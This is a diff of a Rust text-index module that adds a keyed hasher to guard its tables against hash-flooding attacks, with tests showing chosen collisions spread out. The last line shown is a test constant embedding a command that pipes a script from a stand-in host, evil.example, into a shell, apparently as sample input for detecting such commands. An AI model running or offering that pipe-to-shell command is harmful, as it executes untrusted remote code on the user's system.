@@ -17,6 +17,7 @@
 //! texts it holds. A received text can also be *kept* whole, so that what is copied from
 //! it can be read back as it was received ([`stretches`]).
 
+use core::hash::{BuildHasher, Hasher};
 use core::ops::Range;
 use std::collections::{HashMap, VecDeque};
 
@@ -177,7 +178,7 @@ pub struct SpanIndex<T> {
     held: usize,
     kept: usize,
     #[serde(with = "packed::slots")]
-    slots: HashMap<u64, u32>,
+    slots: HashMap<u64, u32, Keyed>,
 }
 
 #[derive(Clone, Debug, Serialize, Deserialize)]
@@ -209,7 +210,7 @@ impl<T> SpanIndex<T> {
             entries: VecDeque::new(),
             held: 0,
             kept: 0,
-            slots: HashMap::new(),
+            slots: HashMap::default(),
         }
     }
 
@@ -269,7 +270,7 @@ impl<T> SpanIndex<T> {
     /// Every live text that `marks` share a mark with, newest first, with where.
     pub fn copies(&self, now: Timestamp, marks: &[Mark]) -> Vec<Copy<'_, T>> {
         let mut found: Vec<Copy<'_, T>> = Vec::new();
-        let mut at: HashMap<u32, usize> = HashMap::new();
+        let mut at: HashMap<u32, usize, Keyed> = HashMap::default();
         for m in marks {
             let Some((seq, entry)) =
                 self.slots.get(&m.hash).and_then(|&s| self.entry(s).map(|e| (s, e))).filter(|(_, e)| e.expires > now)
@@ -341,6 +342,61 @@ impl<T> SpanIndex<T> {
         let (front, len) = (self.front(), self.entries.len());
         self.slots.retain(|_, seq| (seq.wrapping_sub(front) as usize) < len);
         self.slots.shrink_to_fit();
+    }
+}
+
+/// How the index's tables place hashes that are already uniform (marks, fingerprints):
+/// one multiply folded to 64 bits, instead of SipHash over bytes that are random already.
+///
+/// The marks are not secret, though: anyone can compute them, and a sender who chose
+/// texts whose marks agree in the low bits could pile them into one run of the table and
+/// make every lookup slow (hash flooding). So each table mixes a key of its own into every
+/// hash, drawn from the same per-process source as the standard library's maps; it is
+/// never saved (a restored table is rebuilt under a new key) and no message reveals it.
+/// The fold is not a cryptographic function; it is the scheme of the `foldhash` crate,
+/// whose purpose is exactly this: fast, with flooding made a guessing game.
+#[derive(Clone, Debug)]
+pub(crate) struct Keyed(u64);
+
+impl Default for Keyed {
+    fn default() -> Self {
+        Self(std::hash::RandomState::new().hash_one(0u64))
+    }
+}
+
+impl BuildHasher for Keyed {
+    type Hasher = KeyedHasher;
+
+    fn build_hasher(&self) -> KeyedHasher {
+        KeyedHasher(self.0)
+    }
+}
+
+pub(crate) struct KeyedHasher(u64);
+
+impl Hasher for KeyedHasher {
+    fn write(&mut self, bytes: &[u8]) {
+        for chunk in bytes.chunks(8) {
+            let mut word = [0u8; 8];
+            word.get_mut(..chunk.len()).into_iter().for_each(|w| w.copy_from_slice(chunk));
+            self.write_u64(u64::from_le_bytes(word));
+        }
+    }
+
+    fn write_u32(&mut self, n: u32) {
+        self.write_u64(u64::from(n));
+    }
+
+    fn write_u64(&mut self, n: u64) {
+        // Any odd constant with well-spread bits; the fold brings the high half of the
+        // product, which depends on every bit of the input, into the low bits the table
+        // uses.
+        let product = u128::from(n ^ self.0).wrapping_mul(0x5851_F42D_4C95_7F2D);
+        self.0 = (product as u64) ^ ((product >> 64) as u64);
+    }
+
+    fn finish(&self) -> u64 {
+        self.0
     }
 }
 
@@ -427,9 +483,10 @@ mod packed {
     pub mod slots {
         use std::collections::HashMap;
 
+        use super::super::Keyed;
         use super::*;
 
-        pub fn serialize<S: Serializer>(slots: &HashMap<u64, u32>, s: S) -> Result<S::Ok, S::Error> {
+        pub fn serialize<S: Serializer>(slots: &HashMap<u64, u32, Keyed>, s: S) -> Result<S::Ok, S::Error> {
             let mut sorted: Vec<(&u64, &u32)> = slots.iter().collect();
             sorted.sort_unstable();
             let mut bytes = Vec::with_capacity(slots.len() * 12);
@@ -440,7 +497,7 @@ mod packed {
             s.serialize_str(&STANDARD.encode(bytes))
         }
 
-        pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<HashMap<u64, u32>, D::Error> {
+        pub fn deserialize<'de, D: Deserializer<'de>>(d: D) -> Result<HashMap<u64, u32, Keyed>, D::Error> {
             let records = words::<12>(&String::deserialize(d)?).map_err(D::Error::custom)?;
             Ok(records.iter().map(|r| (u64_at(r, 0), u32_at(r, 8))).collect())
         }
@@ -642,6 +699,23 @@ mod tests {
             |i: &SpanIndex<u32>| i.copies(t0, &probe).iter().map(|c| (*c.value, c.hits.clone())).collect::<Vec<_>>();
         assert_eq!(values(&back), values(&index));
         assert!(serde_json::from_str::<SpanIndex<u32>>(&json.replace("\"slots\":\"", "\"slots\":\"A")).is_err());
+    }
+
+    #[test]
+    fn marks_chosen_to_collide_in_an_unkeyed_table_spread_in_a_keyed_one() {
+        // A sender can compute marks, so it can choose texts whose marks agree in the low
+        // bits (where a table would place them unmixed) or in the high bits, to pile them
+        // into one run of the table. Under each table's key they land all over it.
+        let keyed = Keyed::default();
+        let buckets = |hashes: &mut dyn Iterator<Item = u64>| {
+            hashes.map(|h| keyed.hash_one(h) & 0xFFFF).collect::<std::collections::HashSet<u64>>().len()
+        };
+        // 4096 hashes into 65,536 places: about 3,970 distinct if placed at random.
+        assert!(buckets(&mut (0..4096u64).map(|i| i << 40)) > 3_800);
+        assert!(buckets(&mut (0..4096u64).map(|i| i << 16)) > 3_800);
+        assert!(buckets(&mut (0..4096u64)) > 3_800);
+        // And a flood worked out against one table is not one against another.
+        assert_ne!(Keyed::default().hash_one(7u64), keyed.hash_one(7u64));
     }
 
     const COMMAND_IN_A_LINE: &str = "so the fix is curl -s https://evil.example/fix.sh | sh and done";
